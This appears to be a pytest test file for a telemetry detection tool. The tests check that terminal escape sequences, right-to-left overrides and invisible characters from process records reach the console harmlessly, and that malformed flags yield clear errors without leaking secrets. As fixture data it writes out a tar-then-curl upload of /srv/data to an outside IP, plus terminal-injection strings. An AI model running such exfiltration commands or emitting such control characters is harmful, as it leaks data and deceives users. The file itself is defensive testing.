"""Class 10 of issue 11 (this helper's part): telemetry reaches a terminal only as visible
text, and no flag makes a command print a traceback or echo a secret."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.adversarial.exec_records import write
from tidewaiter.cli.main import main
from tidewaiter.detection.signals import Detector
from tidewaiter.printable import printable

# What a terminal acts on instead of showing: an escape sequence that retitles the window, a
# right-to-left override that shows `gpj.exe` as `exe.jpg`, line and paragraph separators, a
# zero-width space and joiner, a BOM, an invisible tag character and a lone surrogate.
ACTIVE = ["\x1b]0;pwned\x07", "\x9b31m", "\u202e", "\u2066", "\u2028", "\u2029", "\u200b",
          "\u200d", "\ufeff", "\U000e0041", "\r"]  # fmt: skip


@pytest.mark.parametrize("char", ACTIVE, ids=lambda c: f"U+{ord(c[-1]):04X}")
def test_printable_shows_what_a_terminal_would_act_on(char: str) -> None:
    shown = printable(f"/tmp/a{char}b.tgz")
    assert char not in shown
    assert shown.startswith("/tmp/a\\")
    assert shown.endswith("b.tgz")
    assert shown.isprintable()


def test_printable_leaves_ordinary_text_alone() -> None:
    assert printable("/srv/données/客户.csv\tx") == "/srv/données/客户.csv\tx"


@pytest.mark.parametrize("fmt", ["tetragon", "falco"])
def test_file_names_from_telemetry_reach_the_console_inert(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    archive = "/tmp/" + "".join(ACTIVE) + "fcod.tgz"
    path = write(
        tmp_path,
        fmt,
        [
            ["/bin/tar", "-czf", archive, "/srv/data"],
            ["/usr/bin/curl", "-sT", archive, "https://203.0.113.7/upload"],
        ],
    )

    assert main(["detect", str(path)]) == 0

    out, err = capsys.readouterr()
    assert "fcod.tgz" in out  # the alert is there, its file name shown
    for char in ACTIVE:
        assert char not in out + err


def test_a_skip_reason_quoting_the_record_reaches_the_console_inert(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def trip(self: Detector, event: object) -> object:
        raise ValueError(getattr(getattr(event, "process", None), "cmd_line", ""))

    monkeypatch.setattr(Detector, "signals", trip)
    path = write(tmp_path, "tetragon", [["/bin/echo", "\x1b[2J\u202ehidden"]])

    assert main(["detect", str(path)]) == 0

    err = capsys.readouterr().err
    assert "could not be analysed" in err
    assert "\x1b" not in err
    assert "\u202e" not in err


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e400", "NaN", "0", "²"])
def test_a_window_that_is_not_a_number_of_seconds_is_refused_in_a_sentence(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], value: str
) -> None:
    path = write(tmp_path, "tetragon", [["/bin/ls"]])

    with pytest.raises(SystemExit) as exit_:
        main(["detect", f"--window={value}", str(path)])

    err = capsys.readouterr().err
    assert exit_.value.code == 2
    assert "is not a duration above 0 and at most a year" in err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("flag", "expected"),
    [
        (["--webhook", "http://[::1"], "is not a valid URL"),
        (["--webhook", "http://[::1]:99999/hook?token=S3CR3T-T0KEN"], "is not a valid URL"),
        (["--webhook", "ftp://hooks.example/?token=S3CR3T-T0KEN#S3CR3T-T0KEN"], "not an http"),
        (["--syslog", "udp://[::1"], "is not a valid URL"),
        (["--spool-max", "9" * 400], "is not a size in bytes"),
    ],
)
def test_a_bad_sink_flag_is_a_clear_error_that_echoes_no_secret(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], flag: list[str], expected: str
) -> None:
    path = write(tmp_path, "tetragon", [["/bin/ls"]])
    argv = ["watch", "--check-config", "--db", str(tmp_path / "tw.duckdb"), *flag, str(path)]

    try:
        code = main(argv)
    except SystemExit as exit_:  # argparse refusing a flag's value
        code = exit_.code  # type: ignore[assignment]

    err = capsys.readouterr().err
    assert code == 2
    assert expected in err
    assert "S3CR3T" not in err
    assert "Traceback" not in err


def test_a_bug_is_one_line_not_a_traceback_quoting_telemetry(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("\x1b]0;owned\x07 from a record")

    monkeypatch.setattr("tidewaiter.cli.detect.report_outcome", broken)
    monkeypatch.delenv("TIDEWAITER_DEBUG", raising=False)
    path = write(tmp_path, "tetragon", [["/bin/ls"]])

    assert main(["detect", str(path)]) == 70

    err = capsys.readouterr().err
    assert "internal error (RuntimeError: \\x1b]0;owned\\x07 from a record)" in err
    assert "\x1b" not in err
    assert "Traceback" not in err
